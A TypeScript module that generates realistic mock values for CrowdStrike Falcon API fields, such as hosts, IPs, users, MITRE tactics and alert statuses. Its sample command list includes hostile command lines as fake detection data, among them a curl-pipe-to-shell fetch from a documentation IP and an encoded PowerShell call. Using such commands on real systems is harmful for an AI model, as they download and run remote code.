/**
 * Realistic leaf values from a field's name and format: the spec types almost every Falcon field
 * as a bare `string` (`last_seen`, `platform_name`, `local_ip`), so the name is what says a value
 * must parse as a date, an address or a digest. Each rule returns a candidate; the example
 * generator keeps it only when it still satisfies the field's schema (pattern, length, bounds).
 */
import type { Random } from "./random.js";

/** What a record's values share: one host's platform decides its OS version, ids come from the world. */
export interface ValueContext {
  readonly rng: Random;
  /**
   * The random source of the next field named `name` in this record (its first, second, ...
   * occurrence): the same entity draws the same `local_ip` whatever schema shows it.
   */
  fieldRandom(name: string): Random;
  /** The data world's "now" (ms since the epoch): timestamps fall in the 30 days before it. */
  readonly now: number;
  /** The tenant's customer id (32 hex). */
  readonly cid: string;
  /** The entity family the record belongs to (world.ts), when it is one: statuses follow it. */
  readonly family?: string;
  /** An id of a world entity of `family` (e.g. a host for `device_id` inside an alert). */
  readonly entityId?: (family: string) => string | undefined;
  /**
   * A choice shared by the fields of one record (its platform, hostname, user), drawn from its own
   * keyed random source: the same entity gets the same hostname from any operation's schema.
   */
  shared(key: string, make: (rng: Random) => string): string;
}

const PLATFORMS = ["Windows", "Windows", "Windows", "Mac", "Linux"] as const;
const OS_VERSIONS: Record<string, readonly string[]> = {
  Windows: ["Windows 11", "Windows 10", "Windows Server 2022", "Windows Server 2019"],
  Mac: ["Sequoia (15)", "Sonoma (14)"],
  Linux: ["Ubuntu 22.04", "RHEL 9.3", "Amazon Linux 2023"],
};
/** Statuses by the family's service (the part of its route before the first slash). */
const STATUSES: Record<string, readonly string[]> = {
  devices: ["normal", "normal", "normal", "containment_pending", "contained"],
  alerts: ["new", "in_progress", "closed", "reopened"],
  detects: ["new", "in_progress", "true_positive", "false_positive", "closed"],
  falconx: ["success", "running", "error"],
  default: ["active", "enabled", "pending", "disabled"],
};
const PLATFORM_IDS: Record<string, string> = { Windows: "0", Mac: "1", Linux: "3" };
const FIRST = ["alex", "jamie", "morgan", "taylor", "casey", "jordan", "riley", "sam", "avery", "quinn"];
const LAST = ["nguyen", "garcia", "smith", "khan", "müller", "rossi", "tanaka", "okafor", "silva", "cohen"];
const DEPTS = ["FIN", "HR", "ENG", "OPS", "SALES", "IT", "LEGAL"];
const TACTICS = [
  ["TA0002", "Execution", "T1059", "Command and Scripting Interpreter"],
  ["TA0003", "Persistence", "T1547", "Boot or Logon Autostart Execution"],
  ["TA0005", "Defense Evasion", "T1562", "Impair Defenses"],
  ["TA0006", "Credential Access", "T1003", "OS Credential Dumping"],
  ["TA0008", "Lateral Movement", "T1021", "Remote Services"],
] as const;
const FILES = ["invoice_0423.exe", "update.ps1", "svchost.exe", "setup.msi", "report.docm", "payload.dll"];
const COMMANDS = [
  "cmd.exe /c whoami /all",
  "powershell.exe -enc SQBFAFgA",
  "rundll32.exe payload.dll,Start",
  "bash -c 'curl -s http://198.51.100.7/x | sh'",
];

function pad(n: number, width = 2): string {
  return String(n).padStart(width, "0");
}

export function isoDate(ms: number): string {
  const d = new Date(ms);
  return `${d.getUTCFullYear()}-${pad(d.getUTCMonth() + 1)}-${pad(d.getUTCDate())}T${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}Z`;
}

/** A moment in the 30 days before the world's now (first_* earlier than last_*). */
function recentMs(name: string, ctx: ValueContext): number {
  const day = 86_400_000;
  const r = ctx.rng.next();
  if (/first|created|start/.test(name)) return ctx.now - Math.floor((10 + r * 20) * day);
  if (/last|modified|updated|end/.test(name)) return ctx.now - Math.floor(r * 2 * day);
  return ctx.now - Math.floor(r * 10 * day);
}

function platform(ctx: ValueContext): string {
  return ctx.shared("platform", (r) => r.pick(PLATFORMS));
}

function person(ctx: ValueContext): [string, string] {
  return ctx.shared("person", (r) => `${r.pick(FIRST)} ${r.pick(LAST)}`).split(" ") as [string, string];
}

function tactic(ctx: ValueContext): readonly string[] {
  return TACTICS[Number(ctx.shared("tactic", (r) => String(r.int(0, TACTICS.length - 1))))]!;
}

function hostname(ctx: ValueContext): string {
  const p = platform(ctx);
  return ctx.shared("hostname", (r) =>
    p === "Windows"
      ? `${r.pick(DEPTS)}-${r.pick(["WS", "LT", "SRV"])}-${pad(r.int(1, 999), 3)}`
      : p === "Mac"
        ? `${person(ctx)[0]}s-MacBook-Pro`
        : `ip-10-${r.int(0, 255)}-${r.int(0, 255)}-${r.int(1, 254)}`,
  );
}

const ipv4 = (r: Random, prv = true): string =>
  prv
    ? `10.${r.int(0, 255)}.${r.int(0, 255)}.${r.int(1, 254)}`
    : `${r.pick(["198.51.100", "203.0.113", "192.0.2"])}.${r.int(1, 254)}`;
const mac = (r: Random): string => Array.from({ length: 6 }, () => r.hex(2)).join("-");

/** A realistic string for a field, by its format first, then its name; undefined when neither says anything. */
export function stringValue(name: string, format: string | undefined, ctx: ValueContext): string | undefined {
  const n = name.toLowerCase();
  const r = ctx.rng;
  switch (format) {
    case "date-time":
      return isoDate(recentMs(n, ctx));
    case "date":
      return isoDate(recentMs(n, ctx)).slice(0, 10);
    case "uuid":
      return r.uuid();
    case "email":
      return email(ctx);
    case "ipv4":
      return ipv4(r);
    case "ipv6":
      return `fd00::${r.hex(4)}:${r.hex(4)}`;
    case "uri":
    case "url":
      return `https://falcon.crowdstrike.com/${n.replace(/_/g, "-")}/${r.hex(8)}`;
    case "hostname":
      return hostname(ctx);
    case "byte":
      return Buffer.from(`${n}-${r.hex(8)}`).toString("base64");
  }
  if (n === "" || n === "string") return undefined;
  if (/(^|_)(cid|ccid|customer_id|customer_id_string|cid_string)$/.test(n)) return ctx.cid;
  if (/(^|_)(aid|device_id|agent_id|sensor_id)$/.test(n)) return ctx.entityId?.("devices/devices") ?? r.hex(32);
  if (/(^|_)sha256(_hash)?$|^sha256s?$/.test(n)) return r.hex(64);
  if (/(^|_)sha1$/.test(n)) return r.hex(40);
  if (/(^|_)md5(_hash)?$/.test(n)) return r.hex(32);
  if (/(^|_)mac(_address)?$/.test(n)) return mac(r);
  if (/ip6$|ipv6/.test(n)) return `fd00::${r.hex(4)}:${r.hex(4)}`;
  if (/(^|_)(external|public|remote)_ip$/.test(n)) return ipv4(r, false);
  if (
    /(^|_)(ip|ip4|ipv4|ip_address|local_ip|connection_ip|gateway_ip|default_gateway_ip|source_ip|destination_ip)$/.test(
      n,
    )
  )
    return ipv4(r);
  if (/(^|_)(hostname|host_name|computer_name|device_name)$/.test(n)) return hostname(ctx);
  if (/(^|_)(machine_)?domain$/.test(n)) return "corp.example.com";
  if (/^platform(_name)?$/.test(n)) return platform(ctx);
  if (n === "platform_id") return PLATFORM_IDS[platform(ctx)];
  if (/^os_(version|product_name)$/.test(n)) return r.pick(OS_VERSIONS[platform(ctx)]!);
  if (/(^|_)(agent|sensor)_version$|^(product_)?version$/.test(n)) return `7.${r.int(10, 22)}.${r.int(16000, 19999)}.0`;
  if (
    /(^|_)(timestamp|time|date|seen|at|on)$|^(created|modified|updated|deleted)(_\w+)?$|(^|_)(start|end)(_time)?$|last_reboot/.test(
      n,
    ) &&
    !/(^|_)(by|zone|offset|format|type|status)$/.test(n)
  ) {
    return isoDate(recentMs(n, ctx));
  }
  if (/(^|_)(email|uid|user_email|login)$/.test(n)) return email(ctx);
  if (n === "first_name") return capital(person(ctx)[0]);
  if (n === "last_name") return capital(person(ctx)[1]);
  if (/(^|_)(user_?name|user|username|last_login_user|logon_user)$/.test(n))
    return `${person(ctx)[0][0]}${person(ctx)[1]}`;
  if (/(^|_)(uuid|user_uuid)$/.test(n)) return r.uuid();
  if (/(^|_)(url|uri|link|href)$/.test(n)) return `https://falcon.crowdstrike.com/${n.replace(/_/g, "-")}/${r.hex(8)}`;
  if (/^(status|state)$/.test(n)) return r.pick(STATUSES[service(ctx)] ?? STATUSES.default!);
  if (/(^|_)severity(_name)?$/.test(n)) return r.pick(["Critical", "High", "Medium", "Low", "Informational"]);
  if (n === "tactic_id") return tactic(ctx)[0];
  if (n === "tactic") return tactic(ctx)[1];
  if (n === "technique_id") return tactic(ctx)[2];
  if (n === "technique") return tactic(ctx)[3];
  if (/(^|_)(file_?name|image_file_name)$/.test(n)) return r.pick(FILES);
  if (/(^|_)(file_?path|path)$/.test(n))
    return `\\Device\\HarddiskVolume3\\Users\\${person(ctx)[0]}\\Downloads\\${r.pick(FILES)}`;
  if (/(^|_)(cmdline|command_line|command)$/.test(n)) return r.pick(COMMANDS);
  if (/(^|_)country$/.test(n)) return r.pick(["United States", "Germany", "Japan", "Brazil"]);
  if (/(^|_)country_code$/.test(n)) return r.pick(["US", "DE", "JP", "BR"]);
  if (/(^|_)(id|ids)$/.test(n)) return r.hex(32);
  if (/(^|_)(description|comment|comments|summary|note|notes)$/.test(n))
    return `${capital(n.replace(/_/g, " "))} for ${hostname(ctx)}`;
  if (/(^|_)name$/.test(n)) return `${capital(n.replace(/_?name$/, "").replace(/_/g, " ") || "item")} ${r.hex(4)}`;
  return `${n}-${r.hex(6)}`;
}

/** A realistic integer or number for a field, by its name; undefined to let the schema's bounds decide. */
export function numberValue(name: string, ctx: ValueContext): number | undefined {
  const n = name.toLowerCase();
  const r = ctx.rng;
  if (n === "query_time") return Number((r.next() / 10).toFixed(4));
  // incidents: 20 new, 25 reopened, 30 in progress, 40 closed
  if (n === "status" && service(ctx) === "incidents") return r.pick([20, 25, 30, 40]);
  if (/(^|_)(timestamp|time|seen|at)$|expires/.test(n)) return Math.floor(recentMs(n, ctx) / 1000);
  if (/(^|_)(count|total|hits)$/.test(n)) return r.int(0, 40);
  if (/severity|confidence|score|priority|risk/.test(n)) return r.int(1, 10) * 10;
  if (/(^|_)port$/.test(n)) return r.pick([22, 80, 443, 445, 3389]);
  if (/(^|_)(size|bytes|length)$/.test(n)) return r.int(1_024, 5_000_000);
  if (/(^|_)(pid|process_id)$/.test(n)) return r.int(100, 60_000);
  return undefined;
}

function service(ctx: ValueContext): string {
  return ctx.family ? ctx.family.slice(0, ctx.family.indexOf("/")) : "";
}

function capital(s: string): string {
  return s.charAt(0).toUpperCase() + s.slice(1);
}

function email(ctx: ValueContext): string {
  const [first, last] = person(ctx);
  return `${first}.${last.normalize("NFD").replace(/[^a-z]/g, "")}@example.com`;
}
